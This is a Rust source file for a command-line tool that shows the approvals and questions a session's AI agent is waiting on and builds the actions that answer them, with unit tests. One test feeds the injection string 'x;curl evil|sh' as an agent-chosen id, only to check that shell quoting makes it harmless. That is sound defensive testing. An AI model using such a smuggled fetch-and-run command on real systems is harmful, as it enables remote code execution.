//! What a session waits for, as commands and the HTTP API show it, and the actions that answer it.

use ostler_contract::{Value, json};
use ostler_protocol::uri;

use crate::exit::Exit;
use crate::notify::elsewhere::Elsewhere;
use crate::notify::request::{
    ANSWER, APPROVAL, Approval, Asks, Choice, Form, Kind, QUESTION, Question, Questions, Request, field,
    free_field, option_answer,
};

pub use crate::pending_shapes::{
    AnswerRequest, AnsweredRequest, ApproveRequest, CancelTurn, CancelledTurn, PendingRequest, RejectRequest,
    RequestChoice, RequestOption, RequestQuestion,
};

/// How many lines of a text are printed.
pub const MOST_LINES: usize = 200;

/// How a request is answered.
#[derive(Debug, Clone)]
pub enum Reply {
    /// Approves a tool call.
    Approve(ApproveRequest),
    /// Rejects a tool call, or declines questions.
    Reject(RejectRequest),
    /// Answers questions.
    Answer(AnswerRequest),
}

/// The action that answers a request.
#[derive(Debug, Clone, PartialEq)]
pub struct Answering {
    /// The chat that it is sent to.
    pub chat: String,
    pub action: Value,
    /// What is returned once the host has accepted it.
    pub answered: AnsweredRequest,
}

impl Reply {
    /// The id and the digest that name the request.
    fn named(&self) -> (Option<&str>, Option<&str>) {
        match self {
            Self::Approve(ApproveRequest { request, shown, .. })
            | Self::Reject(RejectRequest { request, shown, .. })
            | Self::Answer(AnswerRequest { request, shown, .. }) => (request.as_deref(), shown.as_deref()),
        }
    }

    /// Returns whether it names the request that it answers.
    pub fn is_bound(&self) -> bool {
        self.named() != (None, None)
    }

    /// Binds it to a request by the digest of what was shown.
    pub fn bind(&mut self, digest: String) {
        match self {
            Self::Approve(ApproveRequest { shown, .. })
            | Self::Reject(RejectRequest { shown, .. })
            | Self::Answer(AnswerRequest { shown, .. }) => *shown = Some(digest),
        }
    }

    /// Returns the action for the pending requests of a session.
    ///
    /// # Errors
    /// Exit 1 if nothing waits, or not what the answer is for; exit 2 for a missing id and an invalid answer.
    pub fn action(&self, session: &str, requests: &[Request]) -> Result<Answering, Exit> {
        let request = find(session, requests, self.named())?;
        let (form, answer) = match (self, &request.asks) {
            (_, Asks::Elsewhere(elsewhere)) => return Err(not_here(elsewhere)),
            (Self::Approve(ApproveRequest { option, .. }), Asks::Approval(approval)) => {
                (chosen(approval, option.as_deref(), true)?, "approved")
            }
            (Self::Reject(RejectRequest { option, .. }), Asks::Approval(approval)) => {
                (chosen(approval, option.as_deref(), false)?, "rejected")
            }
            (Self::Reject(_), Asks::Questions(_)) => (only("decline".to_owned()), "declined"),
            (Self::Answer(AnswerRequest { answers, .. }), Asks::Questions(questions)) => {
                (answers_of(questions, answers)?, "answered")
            }
            (Self::Approve(_), Asks::Questions(_)) => {
                return Err(Exit::usage(format!("{} is a question; answer it", request.id)));
            }
            (Self::Answer(_), Asks::Approval(_)) => {
                return Err(Exit::usage(format!("{} is a tool call; approve or reject it", request.id)));
            }
        };
        let mut action = request.action(&form).map_err(Exit::usage)?;
        if let (Self::Reject(RejectRequest { reason: Some(reason), .. }), Asks::Approval(_)) =
            (self, &request.asks)
        {
            action["reasonMessage"] = reason.as_str().into();
        }
        let answered = AnsweredRequest {
            session: session.to_owned(),
            request: request.id.clone(),
            asked: request.line(),
            answer: answer.to_owned(),
        };
        Ok(Answering { chat: request.chat.clone(), action, answered })
    }
}

/// The request that is answered: the one with this id and this digest, or else the only one.
fn find<'a>(
    session: &str,
    requests: &'a [Request],
    (id, shown): (Option<&str>, Option<&str>),
) -> Result<&'a Request, Exit> {
    let listed = || {
        let lines = requests.iter().map(|request| listed(&request.id, &request.line()));
        lines.collect::<Vec<_>>().join(", ")
    };
    let other = || Exit::machine(format!("{session}: something else waits now: {}", listed()));
    let is_shown = |request: &Request| shown.is_none_or(|shown| request.digest == shown);
    match (id, requests) {
        (_, []) => Err(nothing_waits(session)),
        (Some(id), _) => {
            let exact = requests.iter().find(|request| request.id == id);
            let named: Vec<&Request> = requests.iter().filter(|request| request.is_named(id)).collect();
            match (exact, named.as_slice()) {
                (Some(request), _) if !is_shown(request) => Err(other()),
                (None, [request]) if !is_shown(request) => Err(other()),
                (Some(request), _) => Ok(request),
                (None, [request]) => Ok(*request),
                (None, []) if shown.is_some() => Err(other()),
                (None, []) => Err(Exit::machine(format!(
                    "{session} has no pending request {id}; it waits for {}",
                    listed()
                ))),
                (None, several) => {
                    match several.iter().find(|request| shown.is_some() && is_shown(request)) {
                        Some(request) => Ok(*request),
                        None => {
                            Err(Exit::usage(format!("{id} names several requests; name one of {}", listed())))
                        }
                    }
                }
            }
        }
        (None, _) if shown.is_some() => requests.iter().find(|request| is_shown(request)).ok_or_else(other),
        (None, [one]) => Ok(one),
        (None, _) => Err(unnamed(session, requests.iter().map(|request| (&*request.id, request.line())))),
    }
}

fn listed(id: &str, line: &str) -> String {
    format!("{id} ({line})")
}

/// The error of an answer to a session that waits for nothing.
pub fn nothing_waits(session: &str) -> Exit {
    Exit::machine(format!("{session} waits for no input"))
}

/// The error of an answer that names no request.
pub fn unnamed<'a>(session: &str, requests: impl Iterator<Item = (&'a str, String)>) -> Exit {
    let lines: Vec<String> = requests.map(|(id, line)| listed(id, &line)).collect();
    let many = match lines.len() {
        1 => "1 pending request".to_owned(),
        many => format!("{many} pending requests"),
    };
    Exit::usage(format!("{session} has {many}; name one with request or shown: {}", lines.join(", ")))
}

fn not_here(elsewhere: &Elsewhere) -> Exit {
    Exit::machine(format!("{}; only a client of the protocol can do this", elsewhere.line()))
}

fn only(answer: String) -> Form {
    Form::from_iter([(ANSWER.to_owned(), vec![answer])])
}

/// The form of an approval or a rejection.
fn chosen(approval: &Approval, option: Option<&str>, approves: bool) -> Result<Form, Exit> {
    let offered = || {
        let offered = approval.options.iter().filter(|option| option.favoured == approves);
        offered.map(|option| option.id.as_str()).collect::<Vec<_>>().join(", ")
    };
    let Some(id) = option else {
        return match approves && approval.needs_option {
            true => Err(Exit::usage(format!("only an option approves this call; use one of {}", offered()))),
            false => Ok(only(if approves { "approve" } else { "deny" }.to_owned())),
        };
    };
    match approval.options.iter().find(|option| option.id == id) {
        Some(option) if option.favoured == approves => Ok(only(option_answer(id))),
        Some(_) => Err(Exit::usage(match approves {
            true => format!("the option {id} rejects the call"),
            false => format!("the option {id} approves the call"),
        })),
        None => Err(Exit::usage(match offered() {
            none if none.is_empty() => format!("{id} is not an option of this call; leave it out"),
            offered => format!("{id} is not an option of this call; use one of {offered}"),
        })),
    }
}

/// The form of the answers to questions.
fn answers_of(questions: &Questions, answers: &[String]) -> Result<Form, Exit> {
    let mut form = only("accept".to_owned());
    let mut answered = vec![false; questions.questions.len()];
    let asked = &questions.questions;
    let ids = || asked.iter().map(|question| question.id.as_str()).collect::<Vec<_>>().join(", ");
    for answer in answers {
        // The longest id that fits, because an id can contain the separator.
        let named = asked
            .iter()
            .enumerate()
            .filter_map(|(at, question)| {
                Some((at, question, answer.strip_prefix(question.id.as_str())?.strip_prefix('=')?))
            })
            .max_by_key(|(_, question, _)| question.id.len());
        let (at, question, value) = match (named, asked.as_slice()) {
            (Some(named), _) => named,
            (None, [one]) => (0, one, answer.as_str()),
            (None, []) => return Err(Exit::usage("the request has no question; leave out the answers")),
            (None, _) => {
                return Err(Exit::usage(format!(
                    "{answer}: write <question>=<answer>; the questions are {}",
                    ids()
                )));
            }
        };
        let (name, value) = field_of(at, question, value);
        let takes_one = !matches!(question.kind, Kind::Many { .. });
        if std::mem::replace(&mut answered[at], true) && takes_one {
            return Err(Exit::usage(format!("{} has more than one answer; it takes one", question.id)));
        }
        let values = form.entry(name).or_default();
        // A choice that is named twice, such as by its id and its label, is one choice.
        if !values.contains(&value) {
            values.push(value);
        }
    }
    Ok(form)
}

/// The field and the value of an answer.
fn field_of(at: usize, question: &Question, value: &str) -> (String, String) {
    let choice = |choices: &[Choice]| {
        let by_id = choices.iter().find(|choice| choice.id == value);
        by_id.or_else(|| choices.iter().find(|choice| choice.label == value)).map(|choice| choice.id.clone())
    };
    match &question.kind {
        Kind::Boolean { .. } => {
            let word = match value {
                "true" => "yes",
                "false" => "no",
                other => other,
            };
            (field(at), word.to_owned())
        }
        Kind::One { choices, free } | Kind::Many { choices, free, .. } => match (choice(choices), free) {
            (Some(id), _) => (field(at), id),
            (None, true) => (free_field(at), value.to_owned()),
            (None, false) => (field(at), value.to_owned()),
        },
        Kind::Text { .. } | Kind::Number { .. } => (field(at), value.to_owned()),
    }
}

impl PendingRequest {
    /// Makes it from a pending request of a session.
    pub fn of(request: &Request) -> Self {
        let bare = Self::bare(request);
        match &request.asks {
            Asks::Approval(approval) => bare.with_approval(approval),
            Asks::Questions(questions) => bare.with_questions(questions),
            Asks::Elsewhere(elsewhere) => {
                Self { tool: Some(elsewhere.tool.clone()), message: Some(elsewhere.line()), ..bare }
            }
        }
    }

    fn bare(request: &Request) -> Self {
        Self {
            id: request.id.clone(),
            digest: request.digest.clone(),
            kind: request.kind().to_owned(),
            chat: request.chat.clone(),
            tool: None,
            title: None,
            message: None,
            intention: None,
            input: None,
            files: Vec::new(),
            options: Vec::new(),
            url: None,
            questions: Vec::new(),
        }
    }

    fn with_approval(self, approval: &Approval) -> Self {
        let option = |option: &Choice| RequestOption {
            id: option.id.clone(),
            label: option.label.clone(),
            approves: option.favoured,
        };
        Self {
            tool: Some(approval.tool.clone()),
            title: approval.title.clone(),
            message: Some(approval.message.clone()),
            intention: approval.intention.clone(),
            input: approval.input.clone(),
            files: approval.files.clone(),
            options: approval.options.iter().map(option).collect(),
            ..self
        }
    }

    fn with_questions(self, questions: &Questions) -> Self {
        Self {
            message: questions.message.clone(),
            url: questions.url.clone(),
            questions: questions.questions.iter().map(RequestQuestion::of).collect(),
            ..self
        }
    }

    /// What is asked, in one line.
    pub fn line(&self) -> String {
        let title = self.title.as_ref().or(self.tool.as_ref());
        match (&self.message, title) {
            (Some(message), Some(title)) if self.kind == APPROVAL => format!("{title}: {message}"),
            (Some(message), _) => message.clone(),
            (None, Some(title)) => title.clone(),
            (None, None) => "a question".to_owned(),
        }
    }

    /// As lines for a person: what is asked in a session, then how it is answered.
    pub fn lines(&self, session: &str) -> Vec<String> {
        let id = uri::session_id(session).unwrap_or(session);
        let mut lines = vec![format!("[waiting: {}]", self.line())];
        // Lines of a text do not look like those that follow it.
        let mut add = |text: String| {
            let shown = indented(&text).into_iter().enumerate();
            lines.extend(shown.map(|(at, line)| if at == 0 { line } else { format!("  {line}") }));
        };
        add(format!("request {}", self.id));
        if self.chat != uri::default_chat(session) {
            add(format!("chat {}", self.chat));
        }
        if let Some(tool) = self.tool.as_ref().filter(|_| self.kind == APPROVAL) {
            add(format!("tool {tool}"));
        }
        self.intention.iter().for_each(|why| add(format!("why {why}")));
        self.input.iter().for_each(|input| add(format!("input {input}")));
        self.files.iter().for_each(|file| add(format!("changes {file}")));
        self.url.iter().for_each(|url| add(format!("open {url}")));
        for option in &self.options {
            let does = if option.approves { "approves" } else { "rejects" };
            add(format!("option {} ({does}): {}", option.id, option.label));
        }
        for question in &self.questions {
            let optional = if question.required { "" } else { ", optional" };
            add(format!("question {} ({}{optional}): {}", question.id, question.answer, question.message));
            for choice in &question.choices {
                let about = choice.description.as_ref().map(|about| format!(": {about}")).unwrap_or_default();
                add(format!("  {}: {}{about}", choice.id, choice.label));
            }
        }
        match self.kind.as_str() {
            APPROVAL => add(format!(
                "answer with: ostler session approve {id} --shown {shown}, or ostler session reject {id} --shown {shown}",
                shown = self.digest
            )),
            QUESTION => {
                let answers: Vec<String> = match self.questions.as_slice() {
                    [] => Vec::new(),
                    [_] => vec![" <ANSWER>".to_owned()],
                    several => several.iter().map(|one| format!(" {}=<ANSWER>", quoted(&one.id))).collect(),
                };
                add(format!(
                    "answer with: ostler session answer {id}{} --shown {}",
                    answers.concat(),
                    self.digest
                ));
            }
            _ => {}
        }
        lines
    }
}

impl RequestQuestion {
    fn of(question: &Question) -> Self {
        let of_all = |choices: &[Choice]| {
            let choice = |choice: &Choice| RequestChoice {
                id: choice.id.clone(),
                label: choice.label.clone(),
                description: choice.description.clone(),
            };
            choices.iter().map(choice).collect::<Vec<_>>()
        };
        let (answer, choices, text_allowed) = match &question.kind {
            Kind::Text { .. } => ("text", Vec::new(), false),
            Kind::Number { whole: false, .. } => ("number", Vec::new(), false),
            Kind::Number { whole: true, .. } => ("integer", Vec::new(), false),
            Kind::Boolean { .. } => ("boolean", Vec::new(), false),
            Kind::One { choices, free } => ("choice", of_all(choices), *free),
            Kind::Many { choices, free, .. } => ("choices", of_all(choices), *free),
        };
        Self {
            id: question.id.clone(),
            title: question.title.clone(),
            message: question.message.clone(),
            required: question.required,
            answer: answer.to_owned(),
            choices,
            text_allowed,
        }
    }
}

/// Returns an id, which an agent can choose, for a command line that a person copies.
fn quoted(id: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ':' | '/' | '-');
    match !id.is_empty() && !id.starts_with('-') && id.chars().all(is_plain) {
        true => id.to_owned(),
        false => format!("'{}'", id.replace('\'', r"'\''")),
    }
}

/// The lines of a text, indented.
fn indented(text: &str) -> Vec<String> {
    prefixed("    ", text)
}

/// The lines of a text, each with a prefix; of a long one the first, and how many follow.
pub fn prefixed(prefix: &str, text: &str) -> Vec<String> {
    let mut lines: Vec<String> = text
        .lines()
        .take(MOST_LINES)
        .map(|line| format!("{prefix}{}", ostler_telemetry::printable::one_line(line)))
        .collect();
    let more = text.lines().count().saturating_sub(MOST_LINES);
    if more > 0 {
        lines.push(format!("{prefix}… {more} more lines; --json has all"));
    }
    if lines.is_empty() {
        lines.push(prefix.trim_end().to_owned());
    }
    lines
}

/// The action that cancels a turn which began at a time.
pub fn cancelling(turn: &str, started_at: &str) -> Value {
    let now: jiff::Timestamp = ostler_telemetry::clock().iso().parse().unwrap_or_default();
    let began = started_at.parse::<jiff::Timestamp>().unwrap_or(now);
    let duration = now.as_millisecond().saturating_sub(began.as_millisecond()).max(0);
    json!({ "type": "chat/turnCancelled", "turnId": turn, "duration": duration })
}

/// The error of a turn that is to be cancelled while it does not run.
pub fn not_running(session: &str, turn: Option<&str>) -> Exit {
    Exit::machine(match turn {
        Some(turn) => format!("the turn {turn} does not run in {session}"),
        None => format!("no turn runs in {session}"),
    })
}

#[cfg(test)]
mod tests {
    use ostler_protocol::wire::state::SessionState;

    use super::*;

    /// A session that waits for an approval and for answers.
    fn requests() -> Vec<Request> {
        let state: SessionState = serde_json::from_value(json!({
            "provider": "echo", "title": "", "status": 0, "lifecycle": "ready", "chats": [], "activeClients": [],
            "inputNeeded": [
                { "kind": "toolConfirmation", "id": "c1", "chat": "echo:/s/chat", "turnId": "t1", "toolCall": {
                    "status": "pending-confirmation", "toolCallId": "call", "toolName": "run", "displayName": "Run",
                    "invocationMessage": "Runs ls", "toolInput": "{\"a\":1}", "options": [
                        { "id": "always", "label": "Always", "kind": "approve" },
                        { "id": "never", "label": "Never", "kind": "deny" },
                    ] } },
                { "kind": "chatInput", "id": "i1", "chat": "echo:/s/chat", "request": { "id": "r1", "questions": [
                    { "kind": "text", "id": "name", "message": "Name?", "required": true },
                    { "kind": "boolean", "id": "name=sure", "message": "Sure?" },
                    { "kind": "single-select", "id": "one", "message": "One?", "allowFreeformInput": true,
                      "options": [{ "id": "a", "label": "A b" }] },
                    { "kind": "multi-select", "id": "many", "message": "Many?", "allowFreeformInput": true, "max": 4,
                      "options": [{ "id": "x", "label": "X" }, { "id": "y", "label": "Y" }] },
                ] } },
            ],
        }))
        .unwrap();
        Request::all(&state).collect()
    }

    fn answer(answers: &[&str]) -> Reply {
        let answers = answers.iter().map(|answer| (*answer).to_owned()).collect();
        Reply::Answer(AnswerRequest { request: Some("r1".to_owned()), answers, ..AnswerRequest::default() })
    }

    fn approve(request: Option<&str>, option: Option<&str>) -> Reply {
        let owned = |text: Option<&str>| text.map(str::to_owned);
        Reply::Approve(ApproveRequest { request: owned(request), option: owned(option), shown: None })
    }

    fn reject(request: &str, option: Option<&str>) -> Reply {
        Reply::Reject(RejectRequest {
            request: Some(request.to_owned()),
            shown: None,
            option: option.map(str::to_owned),
            reason: Some("No".to_owned()),
        })
    }

    #[test]
    fn a_request_is_named_by_its_id_or_that_of_what_it_asks() {
        let requests = requests();
        for id in ["c1", "call"] {
            let Answering { action, answered, chat } =
                approve(Some(id), None).action("s", &requests).unwrap();
            assert_eq!((&*answered.request, &*answered.answer, &*chat), ("c1", "approved", "echo:/s/chat"));
            assert_eq!((&action["approved"], &action["turnId"]), (&json!(true), &json!("t1")));
        }
        for (reply, code, says) in [
            (
                approve(None, None),
                2,
                "s has 2 pending requests; name one with request or shown: c1 (Runs ls), i1 (Name?)",
            ),
            (approve(Some("x"), None), 1, "s has no pending request x; it waits for c1 (Runs ls)"),
            (approve(Some("i1"), None), 2, "i1 is a question; answer it"),
            (approve(Some("c1"), Some("never")), 2, "the option never rejects the call"),
            (reject("c1", Some("always")), 2, "the option always approves the call"),
            (reject("c1", Some("x")), 2, "x is not an option of this call; use one of never"),
        ] {
            let why = reply.action("s", &requests).unwrap_err();
            assert!(why.code() == code && why.to_string().contains(says), "{why}");
        }
        assert_eq!(approve(None, None).action("s", &[]).unwrap_err().code(), 1);
        let rejected = reject("c1", Some("never")).action("s", &requests).unwrap();
        assert_eq!(rejected.action["reasonMessage"], "No");
        assert_eq!(
            (&rejected.action["selectedOptionId"], &rejected.action["approved"]),
            (&json!("never"), &json!(false))
        );
        let mut needed = requests[0].clone();
        if let Asks::Approval(approval) = &mut needed.asks {
            approval.needs_option = true;
        }
        let why = approve(None, None).action("s", std::slice::from_ref(&needed)).unwrap_err();
        assert_eq!(why, Exit::usage("only an option approves this call; use one of always"));
        assert!(reject("c1", None).action("s", &[needed]).is_ok());
        let declined = reject("i1", None).action("s", &requests).unwrap();
        assert_eq!(
            (&declined.action["response"], &*declined.answered.answer),
            (&json!("decline"), "declined")
        );
    }

    #[test]
    fn answers_are_those_of_their_questions() {
        let requests = requests();
        let all = ["name=Ada=B", "name=sure=true", "one=A b", "many=x", "many=Y"];
        let action = answer(&all).action("s", &requests).unwrap().action;
        let value = |id: &str| action["answers"][id]["value"]["value"].clone();
        assert_eq!((value("name"), value("name=sure")), (json!("Ada=B"), json!(true)));
        assert_eq!((value("one"), value("many")), (json!("a"), json!(["x", "y"])));
        let free = answer(&["name=Ada", "one=else"]).action("s", &requests).unwrap().action;
        assert_eq!(free["answers"]["one"]["value"]["freeformValues"], json!(["else"]));
        let many = ["name=Ada", "many=first text", "many=x", "many=second", "many=X"];
        let many = answer(&many).action("s", &requests).unwrap().action;
        assert_eq!(
            many["answers"]["many"]["value"],
            json!({ "kind": "selected-many", "value": ["x"], "freeformValues": ["first text", "second"] })
        );
        for (answers, says) in [
            (&["Ada"][..], "Ada: write <question>=<answer>; the questions are name, name=sure, one, many"),
            (&["name=Ada", "name=Ben"], "name has more than one answer"),
            (&["one=a"], "Name?: an answer is needed"),
            (&["name=Ada", "name=sure=maybe"], "choose yes or no"),
            (&["name=Ada", "many=1", "many=2", "many=3", "many=x", "many=y"], "choose at most 4 options"),
            (&["name=Ada", "one=else", "one=other"], "one has more than one answer; it takes one"),
            (&["name=Ada", "one=a", "one=other"], "one has more than one answer; it takes one"),
            (&["name=Ada", "one=other", "one=A b"], "one has more than one answer; it takes one"),
            (&["name=Ada", "name=sure=yes", "name=sure=no"], "name=sure has more than one answer"),
        ] {
            let why = answer(answers).action("s", &requests).unwrap_err();
            assert!(why.code() == 2 && why.to_string().contains(says), "{answers:?}: {why}");
        }
    }

    #[test]
    fn the_lines_of_a_request_say_how_it_is_answered() {
        let requests = requests();
        let lines: Vec<String> =
            requests.iter().flat_map(|request| PendingRequest::of(request).lines("echo:/5d0c")).collect();
        let lines = lines.join("\n");
        let (call, questions) = (&requests[0].digest, &requests[1].digest);
        for says in [
            "[waiting: Run: Runs ls]\n    request c1\n    chat echo:/s/chat\n    tool Run\n    input {\n        \"a\": 1\n      }\n",
            "    option never (rejects): Never\n",
            &format!(
                "answer with: ostler session approve 5d0c --shown {call}, or ostler session reject 5d0c --shown {call}"
            ),
            "    question name (text): Name?\n",
            "    question many (choices, optional): Many?\n      x: X\n",
            &format!(
                "ostler session answer 5d0c name=<ANSWER> 'name=sure'=<ANSWER> one=<ANSWER> many=<ANSWER> --shown {questions}"
            ),
        ] {
            assert!(lines.contains(says), "{says:?} is not in {lines}");
        }
    }

    #[test]
    fn an_id_that_an_agent_chose_is_one_word_of_the_printed_command() {
        for (id, word) in [
            ("call-7", "call-7"),
            ("a b", "'a b'"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("it's", r"'it'\''s'"),
            ("--option", "'--option'"),
            ("", "''"),
        ] {
            assert_eq!(quoted(id), word);
        }
    }

    #[test]
    fn a_name_of_several_requests_answers_none_of_them() {
        let mut requests = requests();
        let mut other = requests[0].clone();
        other.id = "c2".to_owned();
        requests.push(other);
        let why = approve(Some("call"), None).action("s", &requests).unwrap_err().to_string();
        assert!(why.starts_with("call names several requests"), "{why}");
        assert_eq!(approve(Some("c2"), None).action("s", &requests).unwrap().answered.request, "c2");
    }

    #[test]
    fn an_answer_reaches_only_what_was_shown() {
        let before = requests();
        let mut now = requests();
        // The agent asks for something else with the same id.
        now[0].digest = "other".to_owned();
        let shown = |request: Option<&str>, digest: &str| {
            Reply::Approve(ApproveRequest {
                request: request.map(str::to_owned),
                shown: Some(digest.to_owned()),
                option: None,
            })
        };
        for request in [None, Some("c1"), Some("call")] {
            let reply = shown(request, &before[0].digest);
            assert!(reply.is_bound());
            assert_eq!(reply.action("s", &before).unwrap().answered.asked, "Runs ls");
            let why = reply.action("s", &now).unwrap_err();
            assert_eq!(
                why,
                Exit::machine("s: something else waits now: c1 (Runs ls), i1 (Name?)"),
                "{request:?}"
            );
            assert_eq!(reply.action("s", &[]).unwrap_err(), nothing_waits("s"));
        }
        let gone = shown(Some("x"), &before[0].digest).action("s", &before).unwrap_err().to_string();
        assert!(gone.contains("something else waits now"), "{gone}");
        let mut bare = approve(None, None);
        assert!(!bare.is_bound());
        bare.bind(before[0].digest.clone());
        assert!(bare.action("s", &before).is_ok() && bare.action("s", &now).is_err());
    }

    #[test]
    fn drafts_of_answers_leave_the_digest_as_it_is() {
        let digest = |drafts: Value| {
            let state: SessionState = serde_json::from_value(json!({
                "provider": "echo", "title": "", "status": 0, "lifecycle": "ready", "chats": [], "activeClients": [],
                "inputNeeded": [{ "kind": "chatInput", "id": "i1", "chat": "echo:/s/chat", "request": {
                    "id": "r1", "answers": drafts,
                    "questions": [{ "kind": "text", "id": "name", "message": "Name?" }] } }],
            }))
            .unwrap();
            Request::all(&state).next().unwrap().digest
        };
        let draft = json!({ "name": { "state": "draft", "value": { "kind": "text", "value": "A" } } });
        assert_eq!(digest(json!({})), digest(draft));
    }
}
